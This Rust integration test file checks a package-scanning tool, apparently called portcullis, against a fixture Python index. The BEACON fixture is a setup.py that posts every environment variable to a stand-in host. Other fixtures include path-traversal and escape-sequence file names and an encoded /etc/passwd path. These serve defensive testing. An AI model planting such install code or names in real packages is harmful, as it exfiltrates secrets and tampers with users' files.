//! `portcullis scan` of what an index has: requirements and locks, with an index that is honest and one that
//! is not, under a policy, in processes and with scanners of one's own.

use std::process::{Command, Output};

use portcullis_fixtures::{Fault, FixtureIndex, ListedFile, sdist, wheel};
use serde_json::Value;
use tempfile::TempDir;

const BEACON: &str = "import os, urllib.request\n\
    urllib.request.urlopen('https://collect.invalid/', data=str(dict(os.environ)).encode())\n";

/// An index with a clean and a bad project, and a folder to scan from.
struct Place {
    folder: TempDir,
    index: FixtureIndex,
}

impl Place {
    fn new() -> Self {
        let index = FixtureIndex::start_blocking();
        for version in ["1.0", "1.1"] {
            let code = "def add(a, b):\n    return a + b\n";
            index.add(wheel("clean", version).file("clean/__init__.py", code));
            index.add(
                sdist("clean", version).file("setup.py", "from setuptools import setup\nsetup()\n"),
            );
        }
        index.add(sdist("beacon", "1.0").file("setup.py", BEACON));
        Self {
            folder: TempDir::new().unwrap(),
            index,
        }
    }

    fn write(&self, name: &str, text: &str) {
        std::fs::write(self.folder.path().join(name), text).unwrap();
    }

    fn command(&self) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
        command
            .arg("scan")
            .current_dir(self.folder.path())
            .env_remove("PORTCULLIS_CONFIG")
            .env("PORTCULLIS_URL", self.index.url())
            .env("NO_PROXY", "127.0.0.1");
        command
    }

    fn scan(&self, arguments: &[&str]) -> Output {
        self.command().args(arguments).output().unwrap()
    }

    /// The exit code, and of each input its path, its verdict and where it was named.
    fn told(&self, arguments: &[&str]) -> (i32, Vec<String>) {
        let output = self.scan(&[arguments, &["--format", "json"]].concat());
        let text = String::from_utf8(output.stdout.clone()).unwrap();
        let lines = text.lines().map(|line| {
            let one: Value = serde_json::from_str(line).unwrap();
            let from = one["from"].as_str().unwrap_or_default();
            let (path, verdict) = (
                one["path"].as_str().unwrap(),
                one["verdict"].as_str().unwrap(),
            );
            let what = match one["error"].as_str() {
                Some(_) => "unknown",
                None => verdict,
            };
            format!("{path} {what} {from}").trim_end().to_owned()
        });
        let lines = lines.collect();
        let code = output.status.code().unwrap_or_else(|| panic!("{output:?}"));
        assert!(code != 2, "{output:?}");
        (code, lines)
    }
}

const CLEAN_WHEEL: &str = "clean-1.1-py3-none-any.whl allow";
const CLEAN_SDIST: &str = "clean-1.1.tar.gz allow";

#[test]
fn a_requirement_is_the_newest_release_that_is_meant() {
    let place = Place::new();
    for (arguments, code, expected) in [
        (&["clean"][..], 0, &[CLEAN_WHEEL, CLEAN_SDIST][..]),
        (
            &["Clean<1.1", "--only", "wheel"],
            0,
            &["clean-1.0-py3-none-any.whl allow"],
        ),
        (&["clean", "clean>=1", "--only", "sdist"], 0, &[CLEAN_SDIST]),
        (&["beacon"], 1, &["beacon-1.0.tar.gz deny"]),
        (&["beacon", "--only", "wheel"], 3, &["beacon unknown"]),
        (&["clean>=2"], 3, &["clean>=2 unknown"]),
        (&["absent-project"], 3, &["absent-project unknown"]),
        (
            &["absent-project", "beacon"],
            1,
            &["absent-project unknown", "beacon-1.0.tar.gz deny"],
        ),
        (&["./absent.txt"], 3, &["./absent.txt unknown"]),
    ] {
        let told = place.told(arguments);
        assert_eq!(
            told,
            (
                code,
                expected.iter().map(|line| (*line).to_owned()).collect()
            ),
            "{arguments:?}"
        );
    }
    let explicit = place.index.simple_url();
    let output = place
        .command()
        .env("PORTCULLIS_URL", "http://127.0.0.1:9/")
        .args(["clean", "--index-url", &explicit])
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
}

#[test]
fn requirements_and_locks_are_fetched_and_held_against_their_hashes() {
    let place = Place::new();
    let clean = ListedFile::from(
        wheel("clean", "1.1").file("clean/__init__.py", "def add(a, b):\n    return a + b\n"),
    );
    let good = clean.sha256();
    let bad = "0".repeat(64);
    place.write(
        "requirements.txt",
        &format!("-r more.txt\nclean==1.1 --hash=sha256:{good}\n"),
    );
    place.write("more.txt", "beacon\n");
    let (code, told) = place.told(&["requirements.txt"]);
    let wheel = "clean-1.1-py3-none-any.whl allow requirements.txt:2";
    assert_eq!(
        (code, &*told),
        (
            1,
            &[
                wheel.to_owned(),
                "beacon-1.0.tar.gz deny more.txt:1".to_owned()
            ][..]
        )
    );

    let lock = |hash: &str, name: &str| {
        format!(
            "version = 1\n[[package]]\nname = 'clean'\nversion = '1.1'\n\
             source = {{ registry = 'https://elsewhere.invalid/simple' }}\n\
             wheels = [{{ url = 'https://elsewhere.invalid/{name}', hash = 'sha256:{hash}' }}]\n"
        )
    };
    let name = "clean-1.1-py3-none-any.whl";
    place.write("uv.lock", &lock(&good, name));
    assert_eq!(
        place.told(&["uv.lock"]),
        (0, vec![format!("{CLEAN_WHEEL} uv.lock:2")])
    );
    place.write("uv.lock", &lock(&bad, name));
    assert_eq!(place.told(&["uv.lock"]).0, 3);
    place.write("uv.lock", &lock(&good, "..%2F..%2Fetc%2Fpasswd"));
    assert_eq!(
        place.told(&["uv.lock"]).0,
        0,
        "the digest is enough, the name is none"
    );
}

#[test]
fn an_index_that_lies_or_fails_is_never_clean() {
    let place = Place::new();
    let name = "clean-1.1-py3-none-any.whl";
    for (part, fault) in [
        (name, Fault::WrongBytes(b"other bytes".to_vec())),
        (name, Fault::status(403)),
        (name, Fault::status(404)),
        (name, Fault::CloseAfter(20)),
        ("/simple/clean/", Fault::status(500)),
        ("/simple/clean/", Fault::JsonBomb { depth: 10_000 }),
    ] {
        place.index.clear_faults();
        place.index.fault(part, fault.clone());
        let (code, told) = place.told(&["clean", "--only", "wheel"]);
        assert!(
            code == 3 && told[0].ends_with("unknown"),
            "{fault:?}: {told:?}"
        );
    }
}

#[test]
fn other_places_are_not_asked_and_named_unless_they_are_the_index() {
    let place = Place::new();
    let own = place.index.simple_url();
    place.write("requirements.txt", &format!("--index-url {own}\nclean\n"));
    assert_eq!(place.told(&["requirements.txt"]).0, 0);
    place.write(
        "requirements.txt",
        "--extra-index-url http://127.0.0.1:9/simple\nclean\n",
    );
    let (code, told) = place.told(&["requirements.txt"]);
    assert_eq!((code, told.len()), (3, 3), "{told:?}");
}

#[test]
fn hostile_names_never_leave_the_answer_or_the_temporary_folder() {
    let place = Place::new();
    let temporary = TempDir::new().unwrap();
    for name in [
        "../../evil-1.0-py3-none-any.whl",
        "..\\evil-1.0.tar.gz",
        "evil-1.0\u{1b}[2J.tar.gz",
    ] {
        place
            .index
            .add(ListedFile::raw("evil", "1.0", name, b"x".to_vec()));
    }
    place.index.add(sdist("evil", "0.9").file("setup.py", "\n"));
    let output = place
        .command()
        .env("TMPDIR", temporary.path())
        .args(["evil"])
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&output.stdout);
    assert!(
        shown.contains("evil-0.9.tar.gz") && !shown.contains('\u{1b}'),
        "{shown}"
    );
    assert_eq!(std::fs::read_dir(temporary.path()).unwrap().count(), 0);
    assert_eq!(std::fs::read_dir(place.folder.path()).unwrap().count(), 0);
}

#[test]
fn an_answer_for_people_fits_and_says_where_things_were_named() {
    let place = Place::new();
    place.write("requirements.txt", "clean==1.0\nabsent-project\n./local\n");
    let output = place.scan(&["requirements.txt", "--isolation", "thread"]);
    let shown = String::from_utf8(output.stdout).unwrap();
    let shown = shown
        .split(" s · ")
        .next()
        .unwrap()
        .rsplit_once('\n')
        .unwrap()
        .0;
    insta::assert_snapshot!(shown);
}

#[test]
fn a_policy_says_what_counts() {
    let place = Place::new();
    let policy = |text: &str| {
        place.write("policy.toml", text);
        place.told(&["beacon", "--policy", "policy.toml"])
    };
    let rule = "[rules.malicious-code]\n";
    let exception = "[[exceptions]]\nrule = 'malicious-code'\nreason = 'r'\nowner = 'o'\n";
    for (text, code, verdict) in [
        (rule.to_owned(), 1, "deny"),
        (
            "[rules.malicious-code]\nmode = 'observe'\n".to_owned(),
            0,
            "allow",
        ),
        (
            "[rules.malicious-code]\neffect = 'warn'\n".to_owned(),
            0,
            "warn",
        ),
        (format!("{rule}off = ['NET-001', 'NET-008']\n"), 0, "allow"),
        (format!("{rule}minimum-confidence = 100\n"), 0, "allow"),
        (format!("{rule}{exception}project = 'beacon'\n"), 0, "allow"),
        (
            format!("{rule}{exception}project = 'beacon'\nfinding = 'NET-001'\n"),
            1,
            "hold",
        ),
        (format!("{rule}{exception}project = 'other'\n"), 1, "deny"),
        (
            format!("{rule}{exception}project = 'beacon'\nversion = '<1'\n"),
            1,
            "deny",
        ),
        (
            "[rules.broken-archive]\n[rules.malicious-code]\nmode = 'off'\n".to_owned(),
            0,
            "allow",
        ),
    ] {
        let expected = (code, vec![format!("beacon-1.0.tar.gz {verdict}")]);
        assert_eq!(policy(&text), expected, "{text}");
    }
    let neither = ["malicious-code", "broken-archive"];
    let neither = neither.map(|rule| format!("[rules.{rule}]\nmode = 'off'\n"));
    place.write("policy.toml", &neither.concat());
    let output = place.scan(&["beacon", "--policy", "policy.toml"]);
    assert_eq!(output.status.code(), Some(2), "{output:?}");
}

#[test]
fn both_ways_to_isolate_come_to_the_same() {
    let place = Place::new();
    let of = |isolation: &str| place.told(&["clean", "beacon", "--isolation", isolation]);
    let (code, told) = of("thread");
    assert_eq!((code, told.len()), (1, 3));
    assert_eq!(of("process"), (code, told));
}

#[test]
#[cfg(target_os = "linux")]
fn scanners_of_the_configuration_are_shown_every_archive() {
    let place = Place::new();
    let finding =
        r#"{"id":"Bad","severity":"high","confidence":95,"message":"bad","context":"install"}"#;
    place.write(
        "gateway.toml",
        &format!(
            "[[inspection.scanners]]\nname = 'lab'\n\
             command = ['sh', '-c', 'case \"$1\" in *.whl) echo \"$2\";; esac', 'sh', '{{path}}', '{finding}']\n\
             [[inspection.scanners]]\nname = 'broken'\ncommand = ['false', '{{path}}']\n\
             [[inspection.scanners]]\nname = 'optional'\ncommand = ['false', '{{path}}']\non-failure = 'ignore'\n"
        ),
    );
    let config = &["clean", "--config", "gateway.toml"][..];
    let with = |names: &[&str]| {
        let flags = names.iter().flat_map(|name| ["--scanner", name]);
        place.told(&[config, &flags.collect::<Vec<_>>()].concat())
    };
    let wheel = |verdict: &str| format!("clean-1.1-py3-none-any.whl {verdict}");
    assert_eq!(
        with(&["lab"]),
        (1, vec![wheel("deny"), CLEAN_SDIST.to_owned()])
    );
    assert_eq!(
        with(&["broken"]),
        (3, vec![wheel("hold"), "clean-1.1.tar.gz hold".to_owned()])
    );
    assert_eq!(with(&["optional"]).0, 0);
    assert_eq!(with(&[]).0, 1, "all of them are asked");
    let unknown = place.scan(&["clean", "--config", "gateway.toml", "--scanner", "nobody"]);
    let said = String::from_utf8_lossy(&unknown.stderr).into_owned();
    assert!(
        unknown.status.code() == Some(2) && said.contains("lab, broken, optional"),
        "{said}"
    );
    place.write("policy.toml", "[rules.malicious-code]\noff = ['lab:*']\n");
    let lifted = place.told(&[config, &["--scanner", "lab", "--policy", "policy.toml"]].concat());
    assert_eq!(lifted.0, 0, "{lifted:?}");
}

#[test]
#[cfg(feature = "yara")]
fn yara_rules_are_applied_in_either_isolation_and_their_mistakes_are_told() {
    let place = Place::new();
    place.write("gateway.toml", "[inspection]\nyara = 'rules.yar'\n");
    let rule = "rule Adds { meta: severity = \"high\" context = \"install\" confidence = 95\n\
                strings: $a = \"return a + b\" condition: $a }\n";
    place.write("rules.yar", rule);
    for isolation in ["thread", "process"] {
        let arguments = [
            "clean",
            "--config",
            "gateway.toml",
            "--isolation",
            isolation,
        ];
        let expected = vec![
            "clean-1.1-py3-none-any.whl deny".to_owned(),
            CLEAN_SDIST.to_owned(),
        ];
        assert_eq!(place.told(&arguments), (1, expected), "{isolation}");
    }
    place.write("rules.yar", "rule Adds {\n  condition: $a }\n");
    let output = place.scan(&["clean", "--config", "gateway.toml"]);
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        output.status.code() == Some(2) && said.contains("rules.yar:2:"),
        "{said}"
    );
}
